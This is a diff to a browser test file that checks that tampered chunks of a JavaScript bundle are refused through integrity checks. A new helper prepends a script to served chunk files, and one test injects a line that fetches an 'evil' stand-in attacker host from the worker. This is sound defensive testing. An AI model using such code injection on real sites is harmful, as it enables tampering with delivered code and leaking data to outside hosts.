@@ -154,14 +154,21 @@ describe('A file of the bundle that is not the build’s', () => {
   const stage = stageForTests();
   const mark = 'document.documentElement.dataset.stolen = "true";';
 
+  /** Serves a file with a script before its own. The page script goes on knowing the hash of the build's. */
+  const serveBehind = ({ page }: Visitor, file: string, prelude: string): Promise<unknown> =>
+    page.route(`**/${name}.${file}.js`, (route) =>
+      route.fulfill({
+        body: prelude + readFileSync(resolve(dist, `${name}.${file}.js`), 'utf8'),
+        contentType: 'text/javascript',
+        headers: { 'access-control-allow-origin': '*' },
+      }),
+    );
+
   test.each(['deferred', 'engine'])('is not run: the chunk %s', async (chunk) => {
     const visitor = await stage.visitor({
       expected: new RegExp(`integrity|Failed to find a valid digest|${refusedWorkers.source}`),
     });
-    await visitor.page.route(`**/${name}.${chunk}.js`, async (route) => {
-      const response = await route.fetch();
-      await route.fulfill({ response, body: mark + (await response.text()) });
-    });
+    await serveBehind(visitor, chunk, mark);
     const query = `?permutive_debug=true${chunk === 'engine' ? '&csp=noworker' : ''}`;
     await openPinned(visitor, stage.demo.site, query);
     await visitor.untilWarned(chunk);
@@ -171,10 +178,7 @@ describe('A file of the bundle that is not the build’s', () => {
   test.each(['worker', 'worker.queries', 'worker.services'])('is not run: %s', async (file) => {
     const visitor = await stage.visitor({ expected: /integrity|Failed to find a valid digest/ });
     const asked = await openEvil(visitor);
-    await visitor.page.route(`**/${name}.${file}.js`, async (route) => {
-      const response = await route.fetch();
-      await route.fulfill({ response, body: `fetch("${evil}/from-the-worker");${await response.text()}` });
-    });
+    await serveBehind(visitor, file, `fetch("${evil}/from-the-worker");`);
     await openPinned(visitor, stage.demo.site, '?permutive_debug=true');
     await visitor.untilWarned(
       file === 'worker.services' ? 'Exception in the services' : 'queries are evaluated on the page',
